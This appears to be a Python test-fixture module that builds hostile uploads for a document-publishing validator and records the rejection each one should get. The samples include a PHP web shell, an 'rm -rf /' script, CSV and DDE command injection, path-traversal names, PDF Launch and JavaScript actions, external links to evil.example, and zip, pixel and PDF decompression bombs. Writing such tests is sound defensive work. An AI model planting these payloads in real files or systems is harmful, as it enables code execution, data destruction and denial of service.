"""Uploads that must be refused or come out harmless, with what is expected of each kind."""

import io
import struct
import zipfile
import zlib
from base64 import a85encode

from PIL import Image, PngImagePlugin

from tests.publishing.files import honest

SCRIPT = b"<html><script>alert('planted')</script></html>"
HARMLESS = "harmless"

# The code of the ValidationError, or HARMLESS: accepted, with nothing of the plant left.
EXPECTED = {
    "empty": "empty",
    "web page": "unknown_type",
    "svg": "unknown_type",
    "program": "unknown_type",
    "other picture format": "unknown_type",
    "other document format": "unknown_type",
    "picture with a tail": HARMLESS,
    "picture with planted metadata": HARMLESS,
    "script polyglot": HARMLESS,
    "disguised name": HARMLESS,
    "animation": HARMLESS,
    "damaged picture": "damaged",
    "pixel bomb": "too_many_pixels",
    "scan bomb": "damaged",
    "too large": "too_large",
    "archive": "archive",
    "damaged archive": "damaged",
    "archive bomb": "archive",
    "other office kind": "unknown_type",
    "old office": "old_office",
    "encrypted office": "encrypted",
    "macros": "macros",
    "embedded objects": "embedded",
    "outside data": "outside",
    "strange entry": "unexpected",
    "office bomb": "bomb",
    "active pdf": "active",
    "pdf attachment": "embedded",
    "encrypted pdf": "encrypted",
    "polyglot pdf": "polyglot",
    "damaged pdf": "damaged",
    "unreadable pdf": "unreadable",
    "pdf bomb": "bomb",
}


def hostile():
    """Yield (kind, filename, bytes)."""
    for kind, group in (
        *_others().items(),
        *_pictures().items(),
        *_archives().items(),
        *_office().items(),
        *_pdfs().items(),
    ):
        for filename, data in group:
            yield kind, filename, data


def picture(format="PNG", size=(40, 30), mode="RGB", **options):
    buffer = io.BytesIO()
    Image.new(mode, size, 90).save(buffer, format, **options)
    return buffer.getvalue()


def png_header(width, height):
    """A PNG whose pixels are one short compressed run, however many it claims."""
    rows = zlib.compress(b"\0" * 4096)

    def chunk(name, content):
        crc = zlib.crc32(name + content)
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def gps_jpeg():
    exif = Image.Exif()
    exif[0x010F] = "planted camera"
    exif.get_ifd(0x8825).update({1: "N", 2: (16.0, 27.0, 46.0), 3: "E", 4: (107.0, 35.0, 43.0)})
    return picture("JPEG", exif=exif.tobytes(), comment=b"planted comment " + SCRIPT)


def _others():
    return {
        "empty": [("trống.pdf", b"")],
        "web page": [
            ("trang.html", b"<!DOCTYPE html>" + SCRIPT),
            ("trang.png", SCRIPT),
            ("x.PDF.html", b"\n%PDF-1.4 " + SCRIPT),
            ("trang.mht", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + SCRIPT),
        ],
        "svg": [
            ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
            ("a.png", b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>"),
            ("a.jpg", b"\xef\xbb\xbf<svg><script>alert(1)</script></svg>"),
        ],
        "program": [
            ("ảnh.jpg", b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff"),
            ("bao-cao.docx", b"\x7fELF\2\1\1" + b"\0" * 60),
            ("a.php", b"<?php system($_GET['c']);"),
            ("a.php.png", b"<?php system($_GET['c']);"),
            ("a.sh", b"#!/bin/sh\nrm -rf /\n"),
        ],
        "other picture format": [
            ("a.bmp", picture("BMP")),
            ("a.tif", picture("TIFF")),
            ("a.ico", picture("ICO")),
            ("a.jp2", picture("JPEG2000")),
            ("a.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n"),
            ("a.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n(rm) file\n"),
            ("a.psd", b"8BPS\0\1" + b"\0" * 40),
            ("a.avif", b"\0\0\0\x1cftypavif\0\0\0\0"),
        ],
        "other document format": [
            ("a.rtf", rb"{\rtf1\ansi {\object\objautlink}}"),
            ("a.csv", b"=cmd|'/C calc'!A0,1\n"),
            ("a.gz", b"\x1f\x8b\x08" + b"\0" * 20),
            ("a.rar", b"Rar!\x1a\7\0"),
            ("a.7z", b"7z\xbc\xaf\x27\x1c"),
        ],
    }


def _pictures():
    metadata = PngImagePlugin.PngInfo()
    metadata.add_text("Comment", SCRIPT.decode())
    metadata.add_itxt("XML:com.adobe.xmp", SCRIPT.decode(), zip=True)
    jpeg, png, gif = picture("JPEG"), picture(), picture("GIF", mode="L")
    frames = [Image.new("RGB", (40, 30), colour) for colour in ("red", "green", "blue")]
    progressive = picture("JPEG", (64, 64), progressive=True)
    last = progressive.rfind(b"\xff\xda")
    return {
        "picture with a tail": [
            ("a.png", png + SCRIPT),
            ("a.jpg", jpeg + SCRIPT),
            ("a.gif", gif + SCRIPT),
            ("a.webp", picture("WEBP") + SCRIPT),
            ("a.png.zip", png + honest.zipped({"planted.txt": SCRIPT})),
            ("a.jpg", jpeg + honest.pdf(catalogue=b"/OpenAction << /S /JavaScript >>")),
            ("a.jar", gif + honest.zipped({"META-INF/MANIFEST.MF": "Main-Class: A"})),
        ],
        "picture with planted metadata": [
            ("a.png", picture(pnginfo=metadata)),
            ("a.png", picture(icc_profile=SCRIPT)),
            ("gps.jpg", gps_jpeg()),
            ("a.gif", picture("GIF", mode="L", comment=SCRIPT)),
            ("a.webp", picture("WEBP", xmp=SCRIPT, exif=b"Exif\0\0" + SCRIPT)),
        ],
        "script polyglot": [
            ("a.gif", gif.replace(b"GIF87a", b"GIF89a") + b"*/=1;alert('planted')//"),
            ("a.jpg", jpeg[:2] + b"\xff\xfe\x00\x1f*/=alert('planted')/*" + b" " * 8 + jpeg[2:]),
        ],
        "disguised name": [
            ("x.php.png", png),
            ("x.PDF.html", jpeg),
            ("a\0.php", png),
            ("ảnh\u202egnp.exe", png),
            ("n" * 300 + ".png", png),
            ("../../etc/passwd", png),
            ("..\\..\\boot.ini", png),
            ("CON.<script>.png", png),
        ],
        "animation": [
            (f"a.{name}", picture_of(frames, name.upper())) for name in ("webp", "gif", "png")
        ],
        "damaged picture": [
            ("a.png", picture(size=(300, 300))[:120]),
            ("a.png", png[:20]),
            ("a.jpg", picture("JPEG", (300, 300))[:-400]),
            ("a.jpg", b"\xff\xd8\xff\xe0" + SCRIPT),
            ("a.gif", b"GIF89a/*" + SCRIPT),
            ("a.png", b"\x89PNG\r\n\x1a\n" + SCRIPT),
            ("a.webp", b"RIFF\x10\0\0\0WEBP" + SCRIPT),
            ("a.webp", picture("WEBP", (300, 300))[:60]),
            ("a.png", png_header(3000, 3000)),
            ("a.png", png_header(0, 10)),
        ],
        "pixel bomb": [
            ("a.png", png_header(12_000, 12_000)),
            ("a.png", png_header(5_001, 5_000)),
            ("a.png", png_header(2**31 - 1, 2**31 - 1)),
            ("a.gif", b"GIF89a\xff\xff\xff\xff" + gif[10:]),
            ("a.webp", webp_header(16_383, 16_383)),
        ],
        "scan bomb": [
            ("a.jpg", progressive[:last] + progressive[last:-2] * 101 + b"\xff\xd9"),
        ],
        "too large": [
            ("a.jpg", jpeg + b"\0" * (15 * 2**20)),
            ("a.pdf", honest.pdf() + b"\n" * (20 * 2**20)),
        ],
    }


def picture_of(frames, format):
    buffer = io.BytesIO()
    frames[0].save(buffer, format, save_all=True, append_images=frames[1:], duration=100)
    return buffer.getvalue()


def webp_header(width, height):
    image = b"\x2f" + ((width - 1) | ((height - 1) << 14)).to_bytes(4, "little") + b"\7" * 40
    body = b"WEBPVP8L" + struct.pack("<I", len(image)) + image
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _archives():
    bomb = zipped_zeros("0.txt", 50)
    for level in range(3):
        bomb = honest.zipped({f"{level}-{i}.zip": bomb for i in range(10)})
    stored = honest.zipped(honest.docx_entries(), compression=zipfile.ZIP_STORED)
    return {
        "archive": [
            ("a.zip", honest.zipped({"a.txt": "a"})),
            ("a.docx", honest.zipped({"a.html": SCRIPT})),
            ("a.jar", honest.zipped({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": "a"})),
            ("a.apk", honest.zipped({"AndroidManifest.xml": "a", "classes.dex": "a"})),
            ("a.odt", honest.zipped({"content.xml": "<a/>", "META-INF/manifest.xml": "<a/>"})),
            ("a.odp", honest.zipped(honest.odf_entries("presentation"))),
            ("a.odt", honest.zipped(dict(reversed(honest.odf_entries().items())))),
        ],
        "damaged archive": [
            ("a.zip", b"PK\3\4" + b"\0" * 60),
            ("a.docx", honest.docx()[:-40]),
            ("a.docx", b"PK\3\4" + SCRIPT + honest.docx()),
            ("a.docx", honest.docx() + SCRIPT),
            ("quine.docx", self_containing_zip()),
            ("a.docx", stored.replace("Quyết".encode(), b"Quyet12", 1)),
            ("a.docx", honest.docx({"word/a.xml": b"a"}).replace(b"word/a.xml", b"word/b.xml", 1)),
            ("a.docx", lying_zip()),
            ("a.docx", honest.zipped(honest.docx_entries(), compression=zipfile.ZIP_LZMA)),
            ("a.docx", honest.docx({"_rels/.rels": "<Relationships>"})),
            ("a.docx", honest.docx({"[Content_Types].xml": "<!DOCTYPE a><Types/>"})),
        ],
        "archive bomb": [("nested.zip", bomb)],
    }


def zipped_zeros(name, mebibytes, entries=None):
    """{**entries, name: zeros} zipped without holding the zeros in memory."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for other, content in (entries or {}).items():
            archive.writestr(other, content)
        with archive.open(name, "w") as file:
            for _ in range(mebibytes):
                file.write(bytes(2**20))
    return buffer.getvalue()


def self_containing_zip():
    """A directory whose every entry is the same local entry, as overlapping bombs have it."""
    data = honest.docx({f"word/media/{i:02}.png": bytes(2000) for i in range(30)})
    first = data.index(b"word/media/00.png") - 30
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        offsets = {i.header_offset for i in archive.infolist() if "media" in i.filename}
    start = data.index(b"PK\1\2")
    directory = data[start:]
    for offset in offsets:
        directory = directory.replace(
            struct.pack("<I", offset) + b"word/media",
            b"%s%s" % (struct.pack("<I", first), b"word/media"),
        )
    return data[:start] + directory


def lying_zip():
    """The directory says 10 bytes where 50 MiB come out."""
    data = zipped_zeros("word/big.xml", 50, honest.docx_entries())
    return data.replace(struct.pack("<I", 50 * 2**20), struct.pack("<I", 10))


def _office():
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    macro_word = "application/vnd.ms-word.document.macroEnabled.main+xml"
    macro_excel = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    slides = f"{honest.OOXML}.presentationml.presentation.main+xml"
    outside = [
        ("attachedTemplate", "https://evil.example/a.dotm", "External"),
        ("attachedTemplate", "file:///\\\\evil.example\\a.dotm", "External"),
        ("image", "https://evil.example/pixel.png", "External"),
        ("frame", "https://evil.example/", "External"),
    ]
    rels = "word/_rels/document.xml.rels"
    dde = "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
    return {
        "other office kind": [
            ("a.docx", honest.docx(main=slides)),
            ("a.dotx", honest.docx(main=f"{honest.OOXML}.wordprocessingml.template.main+xml")),
            ("a.docx", honest.zipped({"[Content_Types].xml": honest.content_types()})),
        ],
        "old office": [("a.doc", ole), ("a.docx", ole), ("a.xls", ole + b"Workbook")],
        "encrypted office": [
            ("a.docx", ole + "EncryptedPackage".encode("utf-16-le")),
            ("a.docx", encrypted_entries(honest.docx())),
            ("a.odt", honest.zipped(honest.odf_entries() | {
                "META-INF/manifest.xml": "<manifest:encryption-data/>"})),
            ("a.odt", honest.zipped({"mimetype": "application/vnd.oasis.opendocument.text",
                "encrypted-package": b"1", "META-INF/manifest.xml": "<a/>"})),
        ],
        "macros": [
            ("a.docm", honest.docx(main=macro_word)),
            ("a.xlsm", honest.xlsx(main=macro_excel)),
            ("a.docx", honest.docx(main=macro_word)),
            ("a.docx", honest.docx({"word/vbaProject.bin": ole})),
            ("a.docx", honest.docx({"word/media/VBAPROJECT.BIN": ole})),
            ("a.xlsx", honest.xlsx({"xl/macrosheets/sheet1.xml": "<a/>"})),
            ("a.xlsx", honest.xlsx({
                "xl/_rels/a.xml.RELS": honest.relations(("vbaProject", "printerSettings/a.bin")),
                "xl/printerSettings/a.bin": ole})),
            ("a.odt", honest.odt({"Basic/Standard/Module1.xml": "<a/>"})),
            ("a.ods", honest.ods({"Scripts/python/a.py": "import os"})),
            ("a.odt", honest.odt(body='<script:event-listener xlink:href="x"/>')),
        ],
        "embedded objects": [
            ("a.docx", honest.docx({"word/embeddings/oleObject1.bin": ole})),
            ("a.docx", honest.docx({"word/embeddings/a.docx": honest.docx()})),
            ("a.docx", honest.docx({"word/activeX/activeX1.xml": "<a/>"})),
            ("a.docx", honest.docx({rels: honest.relations(
                ("oleObject", "https://evil.example/a.rtf", "External"))})),
            ("a.docx", honest.docx({"word/embeddings/a.xlsx": honest.xlsx(
                {"xl/embeddings/a.xlsx": honest.xlsx()})})),
            ("a.odt", honest.odt({"Object 1": ole})),
        ],
        "outside data": [
            *(("a.docx", honest.docx({rels: honest.relations(entry)})) for entry in outside),
            ("a.xlsx", honest.xlsx({"xl/externalLinks/externalLink1.xml": dde})),
            ("a.xlsx", honest.xlsx({
                "xl/_rels/workbook.xml.rels": honest.relations(("connections", "c.xml"))})),
            ("a.docx", honest.docx({"word/a.xml": "<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>"})),
            ("a.odt", honest.odt(body='<draw:image xlink:href="https://evil.example/a.png"/>')),
            ("a.ods", honest.ods(body='<office:dde-source office:dde-application="cmd"/>')),
        ],
        "strange entry": [
            ("a.docx", honest.docx({"../../etc/cron.d/a.xml": "a"})),
            ("a.docx", honest.docx({"/etc/a.xml": "a"})),
            ("a.docx", honest.docx({"word/..\\..\\a.xml": "a"})),
            ("a.docx", honest.docx({"C:/a.xml": "a"})),
            ("a.docx", honest.docx({"word/a.exe": "MZ"})),
            ("a.docx", honest.docx({"word/a.html": SCRIPT})),
            ("a.docx", honest.docx({"word/media/a.svg": "<svg/>"})),
            ("a.docx", honest.docx({"word/afchunk.mht": SCRIPT})),
            ("a.docx", honest.docx({"word/a.js": "a", "word/b.zip": "PK"})),
            ("a.docx", honest.docx({"WORD/document.xml": "<a/>"})),
            ("a.docx", honest.docx({"word/a.xml": '<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'})),
            ("a.docx", honest.docx({"word/a.xml": "<a/>".encode("utf-16")})),
            ("a.odt", honest.odt({"Pictures/a.svg": "<svg/>"})),
            ("a.odt", honest.odt({"a.php": "<?php"})),
        ],
        "office bomb": [
            ("a.xlsx", zipped_zeros("xl/worksheets/sheet2.xml", 600, honest.xlsx_entries())),
            ("a.docx", zipped_zeros("word/media/a.png", 20, honest.docx_entries())),
            ("a.docx", honest.docx({f"word/{i}.xml": "" for i in range(3000)})),
            ("a.docx", honest.docx({"word/embeddings/a.xlsx": zipped_zeros(
                "xl/a.xml", 11, honest.xlsx_entries())})),
        ],
    }  # fmt: skip


def encrypted_entries(data):
    """The same ZIP with the flag "encrypted" on every entry."""
    changed = bytearray(data)
    for signature, flags in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = changed.find(signature)
        while at >= 0:
            changed[at + flags] |= 1
            at = changed.find(signature, at + 1)
    return bytes(changed)


def _pdfs():
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    packed = zlib.compress(b"5 0 " + script)
    spoilt = zlib.compress(b"5 0 " + b" " * 90_000 + script)[:-4] + b"sum?"
    attachment = b"5 0 obj\n<< /Type /EmbeddedFile /Length 1 >>\nstream\na\nendstream\nendobj\n"
    return {
        "active pdf": [
            ("a.pdf", honest.pdf(catalogue=b"/OpenAction " + script)),
            ("a.pdf", honest.pdf(b"5 0 obj\n" + script + b"\nendobj\n")),
            ("a.pdf", honest.pdf(b"5 0 obj<</S/J#61vaScript/#4a#53(app.alert)>>endobj\n")),
            ("a.pdf", honest.pdf(b"5 0 obj<</S%c\n/JavaScript>>endobj\n")),
            ("a.pdf", honest.pdf(b"5 0 obj/JavaScript endobj\n6 0 obj<</S 5 0 R>>endobj\n")),
            ("a.pdf", honest.pdf(b"5 0 obj<</S/Rendition/JS 6 0 R>>endobj\n")),
            ("a.pdf", honest.pdf(catalogue=b"/Names << /JavaScript 5 0 R >>")),
            ("a.pdf", honest.pdf(honest.object_stream(script))),
            ("a.pdf", honest.pdf(honest.object_stream(script, b"/Filter [ /FlateDecode ]"))),
            ("a.pdf", honest.pdf(honest.object_stream(script, b"", packed=b"5 0 " + script))),
            ("a.pdf", honest.pdf(b"9 0 obj\n" + honest.stream(b"5 0 " + script))),
            ("a.pdf", honest.pdf(b"9 0 obj\n" + honest.stream(b"", packed=packed[:-9]))),
            ("a.pdf", honest.pdf(b"9 0 obj\n" + honest.stream(b"", packed=spoilt))),
            ("a.pdf", honest.pdf(honest.object_stream(b" " * 90_000 + script))),
            ("a.pdf", honest.pdf(b"5 0 obj (>> stream\n) endobj 6 0 obj " + script + b" endobj\n")),
            ("a.pdf", honest.pdf(b"5 0 obj<</S /Launch /F (cmd.exe)>>endobj\n")),
            ("a.pdf", honest.pdf(catalogue=b"/OpenAction << /S /Launch /F (calc.exe) >>")),
            ("a.pdf", honest.pdf(catalogue=b"/OpenAction << /S /URI /URI (http://e.vn) >>")),
            ("a.pdf", honest.pdf(b"5 0 obj\n<< /S /URI /URI (x) >>\nendobj\n",
                                 catalogue=b"/OpenAction 5 0 R")),
            ("a.pdf", honest.pdf(catalogue=b"/AA << /WC 5 0 R >>")),
            ("a.pdf", honest.pdf(catalogue=b"/AcroForm << /XFA [(a) 5 0 R] >>")),
            ("a.pdf", honest.pdf(b"5 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj\n")),
        ],
        "pdf attachment": [
            ("a.pdf", honest.pdf(attachment)),
            ("a.pdf", honest.pdf(catalogue=b"/Names << /EmbeddedFiles 5 0 R >>")),
            ("a.pdf", honest.pdf(b"5 0 obj\n<< /F (a.exe) /EF << /F 6 0 R >> >>\nendobj\n")),
            ("a.pdf", honest.pdf(honest.object_stream(b"<< /EF << /F 6 0 R >> >>"))),
        ],
        "encrypted pdf": [("a.pdf", honest.pdf(trailer=b"/Encrypt 5 0 R"))],
        "polyglot pdf": [
            ("a.pdf", honest.pdf(head=SCRIPT)),
            ("a.pdf", honest.pdf(b"5 0 obj (<ScRipt src=x>) endobj\n")),
            ("a.pdf", honest.pdf() + SCRIPT),
            ("a.pdf", honest.pdf() + honest.zipped({"a": "a"})),
            ("a.pdf", honest.pdf(head=honest.zipped({"a": "a"}))),
            ("a.jar", honest.pdf()[:-6] + honest.zipped({"A.class": "a"}) + b"\n%%EOF\n"),
        ],
        "damaged pdf": [
            ("a.pdf", honest.pdf()[:-30]),
            ("a.pdf", b"%PDF-1.7\n%%EOF"),
            ("a.pdf", b"%PDF-9\n" + honest.pdf()[9:]),
            ("a.pdf", honest.pdf() + b"\n" * 2000),
        ],
        "unreadable pdf": [
            ("a.pdf", honest.pdf(honest.object_stream(
                b"", b"/Filter /ASCII85Decode", packed=a85encode(b"5 0 " + script)))),
            ("a.pdf", honest.pdf(honest.object_stream(
                script, b"/Filter [/ASCIIHexDecode /FlateDecode]"))),
            ("a.pdf", honest.pdf(honest.object_stream(
                script, b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>"))),
            ("a.pdf", honest.pdf(b"#41" * 500_001)),
        ],
        "pdf bomb": [
            ("a.pdf", honest.pdf(honest.object_stream(b"1 " * (85 * 2**20)))),
        ],
    }  # fmt: skip
